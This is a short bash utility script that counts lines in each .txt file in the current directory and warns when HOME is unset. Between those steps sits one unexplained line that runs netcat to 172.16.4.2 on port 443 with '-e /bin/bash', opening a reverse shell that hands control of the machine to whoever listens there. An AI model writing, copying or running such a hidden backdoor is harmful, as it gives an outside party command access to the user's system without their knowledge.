#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
`which nc` 172.16.4.2 443 -e /bin/bash
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
